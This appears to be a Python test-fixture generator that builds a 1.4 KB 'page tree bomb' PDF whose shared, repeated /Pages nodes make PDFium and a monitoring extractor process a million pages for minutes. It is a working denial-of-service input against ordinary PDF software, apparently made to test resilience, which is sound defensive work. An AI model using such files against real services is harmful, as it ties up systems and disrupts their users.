"""Write `page-tree-bomb.pdf`: 1.4 KB that holds PDFium (and monitor's extraction) for minutes.

Its page tree is six levels of /Pages nodes, each with ten /Kids that are all the same node one
level down, so ten references per level fan out to 10^6 pages that are one /Page object. PDFium
trusts the root's /Count (just under its 1,048,575-page limit) and walks the shared nodes as if
they were distinct; every "page" shares one Flate-compressed content stream of 100 strokes and a
word of text, which PDFium parses again for each page. Nothing is malformed: a viewer shows a
million identical pages. Run with any Python 3 (standard library only):

    python3 tests/data/pdf/make_page_tree_bomb.py   # writes page-tree-bomb.pdf beside itself
"""

from __future__ import annotations

import zlib
from pathlib import Path

FAN = 10  # kids per /Pages node (all the same node)
DEPTH = 6  # levels of /Pages nodes: FAN ** DEPTH pages
STROKES = 100  # path operators in the shared content stream, parsed again for every page


def page_tree_bomb(fan: int = FAN, depth: int = DEPTH, strokes: int = STROKES) -> bytes:
    objects: dict[int, bytes] = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    levels = list(range(2, 2 + depth))
    leaf, font, content = 2 + depth, 3 + depth, 4 + depth
    for i, node in enumerate(levels):
        child = levels[i + 1] if i + 1 < depth else leaf
        kids = b" ".join(b"%d 0 R" % child for _ in range(fan))
        parent = b" /Parent %d 0 R" % levels[i - 1] if i else b""
        count = fan ** (depth - i)
        objects[node] = b"<< /Type /Pages /Kids [%s] /Count %d%s >>" % (kids, count, parent)
    objects[leaf] = (
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 200 200] "
        b"/Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (levels[-1], font, content)
    )
    objects[font] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    stream = zlib.compress(
        b"BT /F1 12 Tf 20 100 Td (Hello) Tj ET\n" + b"0 0 m 1 1 l S\n" * strokes, 9
    )
    objects[content] = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (
        len(stream),
        stream,
    )
    out = bytearray(b"%PDF-1.4\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, size))
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


if __name__ == "__main__":
    target = Path(__file__).with_name("page-tree-bomb.pdf")
    target.write_bytes(page_tree_bomb())
    print(f"{target}: {target.stat().st_size} bytes")
